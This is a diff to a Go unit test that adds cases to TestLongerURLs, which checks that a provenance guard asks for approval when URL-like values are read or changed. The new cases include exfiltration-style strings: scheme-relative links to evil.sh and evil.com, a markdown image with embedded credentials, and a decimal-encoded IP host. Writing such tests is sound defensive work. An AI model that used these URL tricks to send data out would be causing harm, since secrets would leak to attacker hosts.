@@ -26,6 +26,7 @@ func TestLongerURLs(t *testing.T) {
 		"https://example.org/a{secret}", "https://example.org/a/{secret", `see https://example.org/a\nsecret`,
 		"https://example.org/a\n/secret", "https://example.org/a\tsecret", "https://example.org\t:8080/x",
 		"https://example.org\t?d=secret", "see https://example.org\t/secret/4711",
+		"//user@evil.sh/x", "![x](//user:secret@evil.com)", "//x@2130706433/x", "//bob@example.org/x",
 	} {
 		for _, name := range []string{"v", "url"} {
 			if !asks(name, value, provenance.Changes) || !asks(name, value, provenance.Reads) {
